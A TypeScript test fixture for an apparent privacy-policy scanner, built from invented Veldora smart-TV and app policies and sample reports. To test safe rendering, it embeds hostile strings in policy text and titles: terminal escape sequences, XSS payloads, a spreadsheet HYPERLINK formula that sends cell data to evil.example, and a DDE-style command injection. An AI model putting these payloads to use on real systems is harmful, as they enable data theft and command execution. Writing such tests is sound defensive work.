import type { Finding } from '../../src/model/finding.ts';
import type { Control, Report, ReportContext } from '../../src/model/report.ts';
import type { Practice } from '../../src/model/rule.ts';
import type { NoScore, Score } from '../../src/model/score.ts';
import type { Span } from '../../src/model/text.ts';
import { textFragmentLink } from '../../src/report/text-fragment.ts';

// Veldora is made up, and so is every sentence of its policies. The hostile passages are what a page could serve to whoever reads it
// by machine: terminal escapes, markup, formulas, direction overrides, mentions.

const esc = '\u001b';
const override = '\u202e';
const zeroWidth = '\u200b';

const hostileTitle = `Veldora Smart TV | Privacy ${esc}]0;owned\u0007${esc}[31m<script>alert(1)</script> \`Policy\``;

const television = `Veldora Smart TV Privacy Policy
This policy explains what your Veldora Aurora television and the Veldora app learn about you.
Voice features
When you hold the microphone button, your spoken words are recorded and sent to Murmur Speech Ltd., a company that turns speech into text for us.
If you turn on “Hey Veldora”, the television listens for these words at all times, and it may also pick up what other people in the room are saying before or after them, including children, guests and the sound of other devices, because a wake word is a guess and every guess is now and then wrong; such recordings are treated in the same way as the ones you meant to make.
People who work for us may listen to a small share of recordings to correct what the software understood.
We keep the text of your commands for 18 months to improve the feature.
Voice data never leaves your device.
We may create a voice profile for each member of your household.
You can switch voice features off at any time under Settings > Privacy > Voice.
To delete recordings, say “Veldora, forget everything” or write to privacy@veldora.example.
Viewing information
Live Recognition takes a picture of what is on your screen twice a second and compares it with a library of programmes.
We keep a history of the programmes, apps and inputs that you use.
You may turn Live Recognition off in Settings > Privacy > Viewing information.
Who receives information
We share information with the following recipients:
advertising companies that show you offers on other screens
companies of the Veldora group
${esc}[2J${esc}[1;1Hour insurance partners, for their own purposes
=HYPERLINK("https://evil.example/?"&A1,"open") data brokers, who add what they know about you
We do not sell your personal information.
Some of the disclosures above may be deemed a “sale” under the law of your state.
We do not tell authorities what you watch unless a court orders us to.
We may disclose information if we believe in good faith that this protects our rights.
You may opt out of the sharing of your information at https://www.veldora.example/opt-out.
Storage
We keep information for as long as we need it.
We keep information for as long as we need it.
${override}We never collect your ${zeroWidth}exact location.
We do not use your fingerprint | face | eyes.
<img src=x onerror=alert(1)> @veldora-legal **may** ask [you](javascript:alert(1)) for \`consent\` to follow you across other companies' sites, see #12 and www.evil.example.
`;

const application = `Veldora App: Privacy Notice
Location
The app collects your precise location, also while it is closed, if you switch the remote finder on.
- Location history is kept with your account until you delete it.
The location of your phone may be shown to other members of your household.
Sharing
We share usage data with advertising companies.
We share usage data with advertising companies.
We share contact data with advertising companies that run campaigns for us.
Advertising companies may also collect data in the app directly.
We give advertising companies your age group.
We give advertising companies the region in which you live.
We tell advertising companies which advertisements you saw.
We tell advertising companies which advertisements you skipped.
Choices
The notice board in the app cannot be switched off.
You can ask us for a copy of your data.
`;

interface Said extends Partial<Pick<Finding, 'hedged' | 'conditions' | 'actor' | 'section' | 'lead' | 'about' | 'confidence' | 'verdict'>> {
  readonly stance?: Finding['stance'];
  /** Which of several equal sentences, from 0. */
  readonly nth?: number;
}

const pages = [
  { url: 'https://www.veldora.example/privacy/smart-tv#top', text: television },
  { url: 'https://www.veldora.example/app/privacy(2)?lang=en&v=1', text: application },
] as const;

function place(policy: 0 | 1, quote: string, nth = 0): { readonly span: Span; readonly link?: string } {
  const { text, url } = pages[policy];
  let at = text.indexOf(quote);
  for (let count = 0; count < nth; count++) at = text.indexOf(quote, at + 1);
  if (at < 0) throw new Error(`the sample text does not hold: ${quote}`);
  const link = textFragmentLink(url, quote, text, { at });
  return { span: [at, at + quote.length], ...(link === undefined ? {} : { link }) };
}

const practice = (id: string, severity: Practice['severity'], title: string, how = '', cost = ''): Practice => ({
  id,
  concern: id.split('/')[0] as Practice['concern'],
  title,
  severity,
  why: `A television stands where people talk freely: whoever ${title.split(' ')[0]} this learns what was meant for nobody else.`,
  turnOff: { how, cost },
  source: 'GDPR Art. 4(1); FTC, complaint in the matter of a maker of televisions, 2017',
});

const practices: readonly Practice[] = [
  practice('voice/capture', 'serious', 'records what you say', 'Do not press the microphone button.', 'No voice search.'),
  practice('voice/ambient', 'grave', 'can hear you outside of commands', 'Switch the wake word off.', 'You press a button to talk to it.'),
  practice(
    'voice/third-party',
    'grave',
    'sends your voice to another company',
    'Switch voice features off.',
    'Voice search and dictation stop working; the remote still works.',
  ),
  practice(
    'voice/human-review',
    'grave',
    'lets people listen to what you said',
    'Switch voice features off.',
    'Nothing: the feature works without it.',
  ),
  practice(
    'voice/voiceprint',
    'serious',
    'recognises people by their voice',
    'Do not train a voice profile.',
    'It cannot tell the members of a household apart.',
  ),
  practice('voice/retention', 'serious', 'keeps what you said', 'Delete recordings in your account.', 'Nothing.'),
  practice('voice/calls', 'serious', 'records or monitors calls and messages'),
  practice(
    'location/precise',
    'grave',
    'collects where you are exactly',
    'Refuse the location permission in your phone’s settings.',
    'The remote finder stops working.',
  ),
  practice('location/retention', 'serious', 'keeps a history of where you were', 'Delete the history in your account.', 'Nothing.'),
  practice('location/sharing', 'serious', 'gives your location to others', 'Leave the household in the app.', 'Shared lists are gone.'),
  practice('location/trips', 'serious', 'keeps your trips'),
  practice('sharing/sale', 'grave', 'sells your data', 'Use the link “Do not sell my information”.', 'Nothing.'),
  practice(
    'sharing/advertising',
    'serious',
    'gives your data to advertising companies',
    'Use the link “Your choices”.',
    'Advertisements stay, chosen at random.',
  ),
  practice('sharing/partners', 'serious', 'gives your data to companies that use it for themselves'),
  practice('sharing/affiliates', 'moderate', 'gives your data to companies of its group', 'There is no way known to us.', ''),
  practice('sharing/brokers', 'serious', 'buys or collects data about you from others'),
  practice('government/legal', 'moderate', 'hands data over when the law demands it'),
  practice(
    'government/discretionary',
    'serious',
    'hands data over without being forced to',
    'You cannot switch this off; share less to begin with.',
    '',
  ),
  practice(
    'viewing/acr',
    'grave',
    'recognises what is on your screen',
    'Switch recognition off in the settings.',
    'No recommendations from what you watch on other devices.',
  ),
  practice('viewing/history', 'moderate', 'keeps a list of what you watch', 'Clear the history.', 'Recommendations start anew.'),
  practice('biometric/face', 'grave', 'detects, recognises or stores faces'),
  practice('biometric/other', 'serious', 'measures your body', '', ''),
  practice(
    'tracking/cross-context',
    'serious',
    'follows you across other companies’ sites and apps',
    'Reset the advertising identifier.',
    'Nothing.',
  ),
  practice('tracking/identifiers', 'moderate', 'collects identifiers of your devices'),
  practice(
    'retention/vague',
    'minor',
    'keeps data with no stated end',
    'Ask for deletion from time to time.',
    'You may lose your settings.',
  ),
  practice('retention/after-deletion', 'moderate', 'keeps data after you delete it'),
  practice('control/settings', 'minor', 'lets you switch it off in a setting'),
  practice('control/opt-out', 'minor', 'lets you refuse sale, sharing or a use'),
  practice('control/delete', 'minor', 'lets you delete what it has'),
  practice('control/access', 'minor', 'lets you see what it has'),
];

let serial = 0;

function finding(policy: 0 | 1, id: string, quote: string, said: Said = {}): Finding {
  const { nth, stance = 'does', ...more } = said;
  const rule = practices.find((it) => it.id === id);
  if (rule === undefined) throw new Error(`the sample has no practice ${id}`);
  serial += 1;
  return {
    id: serial.toString(16).padStart(16, 'c0ffee'),
    practice: id,
    concern: rule.concern,
    stance,
    severity: rule.severity,
    confidence: 'high',
    hedged: false,
    conditions: [],
    actor: 'maker',
    quote,
    policy,
    section: [],
    ...place(policy, quote, nth),
    ...more,
  };
}

const voice = { section: ['Voice features'] };
const viewing = { section: ['Viewing information'] };
const receivers = { section: ['Who receives information'], lead: 'We share information with the following recipients:' };
const storage = { section: ['Storage'] };

const sold = finding(0, 'sharing/sale', 'Some of the disclosures above may be deemed a “sale” under the law of your state.', {
  hedged: true,
  conditions: ['region'],
  section: ['Who receives information'],
});
const notSold = finding(0, 'sharing/sale', 'We do not sell your personal information.', {
  stance: 'denies',
  section: ['Who receives information'],
});
const sent = finding(
  0,
  'voice/third-party',
  'When you hold the microphone button, your spoken words are recorded and sent to Murmur Speech Ltd., a company that turns speech into text for us.',
  { conditions: ['feature'], ...voice },
);
const notSent = finding(0, 'voice/third-party', 'Voice data never leaves your device.', {
  stance: 'denies',
  confidence: 'medium',
  ...voice,
});

const kept = finding(1, 'location/retention', '- Location history is kept with your account until you delete it.', {
  section: ['Location'],
  verdict: { verdict: 'checked', by: 'Ada Mwangi', date: '2026-11-21' },
});
const notLocated = finding(0, 'location/precise', `${override}We never collect your ${zeroWidth}exact location.`, {
  stance: 'denies',
  ...storage,
});

const findings: readonly Finding[] = [
  sent,
  finding(0, 'voice/ambient', television.split('\n').find((line) => line.startsWith('If you turn on “Hey')) ?? '', {
    hedged: true,
    conditions: ['opt-in'],
    ...voice,
  }),
  finding(
    0,
    'voice/human-review',
    'People who work for us may listen to a small share of recordings to correct what the software understood.',
    {
      hedged: true,
      ...voice,
    },
  ),
  finding(
    0,
    'viewing/acr',
    'Live Recognition takes a picture of what is on your screen twice a second and compares it with a library of programmes.',
    {
      confidence: 'medium',
      ...viewing,
    },
  ),
  finding(1, 'location/precise', 'The app collects your precise location, also while it is closed, if you switch the remote finder on.', {
    conditions: ['opt-in'],
    section: ['Location'],
  }),
  sold,
  finding(0, 'voice/retention', 'We keep the text of your commands for 18 months to improve the feature.', {
    ...voice,
    verdict: { verdict: 'wrong', by: `Jo ${esc}[1mPark`, date: '2026-11-20', note: '=only the text is kept, **not** the voice @everyone' },
  }),
  finding(0, 'voice/voiceprint', 'We may create a voice profile for each member of your household.', {
    hedged: true,
    confidence: 'low',
    ...voice,
  }),
  finding(0, 'sharing/advertising', 'advertising companies that show you offers on other screens', receivers),
  finding(1, 'sharing/advertising', 'We share usage data with advertising companies.', { section: ['Sharing'] }),
  finding(1, 'sharing/advertising', 'We share usage data with advertising companies.', { nth: 1, section: ['Sharing'] }),
  finding(1, 'sharing/advertising', 'We share contact data with advertising companies that run campaigns for us.', {
    section: ['Sharing'],
  }),
  finding(1, 'sharing/advertising', 'Advertising companies may also collect data in the app directly.', {
    hedged: true,
    actor: 'partner',
    section: ['Sharing'],
  }),
  finding(1, 'sharing/advertising', 'We give advertising companies your age group.', { section: ['Sharing'] }),
  finding(1, 'sharing/advertising', 'We give advertising companies the region in which you live.', { section: ['Sharing'] }),
  finding(1, 'sharing/advertising', 'We tell advertising companies which advertisements you saw.', {
    confidence: 'medium',
    section: ['Sharing'],
  }),
  finding(0, 'sharing/partners', `${esc}[2J${esc}[1;1Hour insurance partners, for their own purposes`, receivers),
  finding(0, 'sharing/brokers', '=HYPERLINK("https://evil.example/?"&A1,"open") data brokers, who add what they know about you', receivers),
  kept,
  finding(1, 'location/sharing', 'The location of your phone may be shown to other members of your household.', {
    hedged: true,
    actor: 'unclear',
    section: ['Location'],
  }),
  finding(0, 'government/discretionary', 'We may disclose information if we believe in good faith that this protects our rights.', {
    hedged: true,
    section: ['Who receives information'],
  }),
  finding(
    0,
    'tracking/cross-context',
    "<img src=x onerror=alert(1)> @veldora-legal **may** ask [you](javascript:alert(1)) for `consent` to follow you across other companies' sites, see #12 and www.evil.example.",
    { hedged: true, conditions: ['consent'], section: ['Storage', '<b>Follow</b> | @everyone'] },
  ),
  finding(0, 'sharing/affiliates', 'companies of the Veldora group', receivers),
  finding(0, 'viewing/history', 'We keep a history of the programmes, apps and inputs that you use.', viewing),
  finding(0, 'retention/vague', 'We keep information for as long as we need it.', storage),
  finding(0, 'retention/vague', 'We keep information for as long as we need it.', { nth: 1, ...storage }),
  notSold,
  notSent,
  finding(0, 'government/legal', 'We do not tell authorities what you watch unless a court orders us to.', {
    stance: 'denies',
    conditions: ['legal-duty'],
    section: ['Who receives information'],
  }),
  notLocated,
  finding(0, 'biometric/face', 'We do not use your fingerprint | face | eyes.', { stance: 'denies', ...storage }),
  finding(0, 'control/settings', 'You can switch voice features off at any time under Settings > Privacy > Voice.', {
    about: 'voice',
    ...voice,
  }),
  finding(0, 'control/settings', 'You may turn Live Recognition off in Settings > Privacy > Viewing information.', {
    about: 'viewing',
    ...viewing,
  }),
  finding(0, 'control/opt-out', 'You may opt out of the sharing of your information at https://www.veldora.example/opt-out.', {
    about: 'sharing',
    section: ['Who receives information'],
  }),
  finding(0, 'control/delete', 'To delete recordings, say “Veldora, forget everything” or write to privacy@veldora.example.', {
    about: 'voice',
    ...voice,
  }),
  finding(1, 'control/access', 'You can ask us for a copy of your data.', { about: 'data', section: ['Choices'] }),
  finding(1, 'control/settings', 'The notice board in the app cannot be switched off.', {
    stance: 'denies',
    about: 'data',
    section: ['Choices'],
  }),
];

const controls: readonly Control[] = findings
  .filter(({ concern, stance }) => concern === 'control' && stance === 'does')
  .map(({ about = 'data', quote, span, policy, practice: id, link }) => ({
    about,
    quote,
    span,
    policy,
    practice: id,
    ...(link === undefined ? {} : { link }),
  }));

function answer(id: string): Report['practices'][string] {
  if (id === 'location/trips') return 'not-assessed';
  const stances = new Set(findings.filter((it) => it.practice === id && it.verdict?.verdict !== 'wrong').map((it) => it.stance));
  if (stances.size === 2) return 'both';
  return [...stances][0] ?? 'silent';
}

const tool = { name: 'earshot', version: '0.1.0', rules: '5eaf00d'.repeat(10).slice(0, 64), extractor: '1' } as const;

const unknown = { score: null, coverage: 0, bounds: [0, 100] } as const;

/** A product without a number, for the reason given. */
function unscored(reason: NoScore, coverage: number, high: number, parts: Score['parts'] = []): Score {
  return {
    version: 1,
    overall: null,
    grade: null,
    reason,
    coverage,
    bounds: [0, high],
    concerns: {
      voice: { score: null, coverage, bounds: [0, high] },
      location: unknown,
      sharing: unknown,
      government: unknown,
      viewing: unknown,
      biometric: unknown,
      tracking: unknown,
      retention: unknown,
      control: unknown,
    },
    parts,
    leftOut: parts.length === 0 ? [] : findings.filter(({ verdict }) => verdict?.verdict === 'wrong').map(({ id }) => id),
  };
}

const sampleParts: Score['parts'] = [
  {
    practice: 'voice/third-party',
    concern: 'voice',
    answer: 'both',
    of: 8.33,
    points: 2.32,
    bounds: [2, 3.27],
    answered: 0.8,
    findings: [sent.id, notSent.id],
    controls: [],
    follows: 'voice/capture',
  },
  {
    practice: 'location/trips',
    concern: 'location',
    answer: 'silent',
    of: 0,
    points: 0,
    bounds: [0, 0],
    answered: 0,
    findings: [],
    controls: [],
  },
];

/** A television's two policies that were read and one that was not, with findings of every severity, stance and confidence. */
export const sampleReport: Report = {
  version: 1,
  tool,
  scannedAt: '2026-11-22T09:30:00.000Z',
  product: 'Veldora Aurora TV',
  policies: [
    {
      url: 'https://veldora.example/privacy',
      finalUrl: pages[0].url,
      title: hostileTitle,
      language: 'en',
      effectiveDate: '2026-03-01',
      sha256: 'a1'.repeat(32),
      status: 'read',
      words: 4812,
      role: 'main',
      country: 'US',
      found: [`the footer of https://veldora.example/ links to it as “Privacy ${esc}[31m<b>|”`, 'its address speaks of privacy (/privacy)'],
      robots: { allowed: true, because: 'ignored' },
    },
    {
      url: pages[1].url,
      finalUrl: pages[1].url,
      language: 'en',
      sha256: 'b2'.repeat(32),
      status: 'read',
      words: 1398,
      role: 'other',
      parts: [
        { url: pages[1].url, sha256: 'b2'.repeat(32) },
        { url: `${pages[1].url}&page=2`, sha256: 'c3'.repeat(32) },
      ],
    },
    {
      url: `https://www.veldora.example/acr${override}"<notice>`,
      finalUrl: `https://www.veldora.example/acr${override}"<notice>`,
      title: `=cmd|'/c calc'!A1`,
      status: 'not-read',
      failure: { kind: 'bot-wall', detail: `the server answered 403 with “${esc}[7mChecking your browser”`, status: 403 },
      words: 0,
    },
  ],
  kind: 'tv',
  seen: [
    {
      url: 'https://www.veldora.example/de/datenschutz',
      title: `Datenschutz ${esc}[2J@veldora`,
      role: 'main',
      country: 'DE',
      language: 'de',
      reason: 'language',
      detail: 'it is in another language',
    },
    {
      url: 'https://www.veldora.example/uk/privacy',
      role: 'main',
      country: 'GB',
      reason: 'country',
      detail: 'it is for readers in another country',
    },
  ],
  findings,
  practices: Object.fromEntries(practices.map(({ id }) => [id, answer(id)])),
  contradictions: [
    { practice: 'sharing/sale', findings: [sold.id, notSold.id] },
    { practice: 'voice/third-party', findings: [sent.id, notSent.id] },
    {
      practice: 'location/retention',
      denies: 'location/precise',
      reason: 'What is never collected cannot be kept.',
      findings: [kept.id, notLocated.id],
    },
  ],
  owed: [
    {
      asks: 'Is speech kept?',
      practices: ['voice/retention'],
      reason: 'A recording that is kept can be listened to, demanded or stolen later.',
      answer: answer('voice/retention'),
    },
    {
      asks: 'Is data sold?',
      practices: ['sharing/sale'],
      reason: 'Once sold, data cannot be called back.',
      answer: answer('sharing/sale'),
    },
  ],
  controls,
  score: unscored('part-read', 0.74, 51.7, sampleParts),
  coverage: 0.74,
  bounds: [0, 51.7],
};

export const sampleContext: ReportContext = { practices, texts: [television, application, null] };

/** A product whose only policy could not be read. */
export const unreadReport: Report = {
  version: 1,
  tool,
  scannedAt: '2026-11-22T09:30:00.000Z',
  policies: [
    {
      url: 'https://www.veldora.example/legal',
      finalUrl: 'https://www.veldora.example/legal',
      title: 'Terms of use',
      status: 'not-read',
      failure: { kind: 'wrong-document', detail: 'it says “terms” 31 times and “privacy” once', instead: 'terms' },
      words: 0,
    },
  ],
  findings: [],
  practices: Object.fromEntries(practices.map(({ id }) => [id, 'not-assessed'])),
  contradictions: [],
  controls: [],
  score: unscored('nothing-read', 0, 100),
  coverage: 0,
  bounds: [0, 100],
};

export const unreadContext: ReportContext = { practices, texts: [null] };

/** A policy that was read and says nothing of any practice. */
export const silentReport: Report = {
  ...unreadReport,
  policies: [{ url: 'stdin:', finalUrl: 'stdin:', status: 'read', words: 912 }],
  practices: Object.fromEntries(practices.map(({ id }) => [id, 'silent'])),
  score: unscored('coverage', 0, 100),
};

export const silentContext: ReportContext = { practices, texts: ['We respect you.\n'] };

/** A plain splitter for tests: after a full stop, question or exclamation mark and a space. */
export function sentencesOf(block: string): readonly Span[] {
  return [...block.matchAll(/\S.*?(?:[.!?](?=\s|$)|$)/gu)].map((match) => [match.index, match.index + match[0].length]);
}
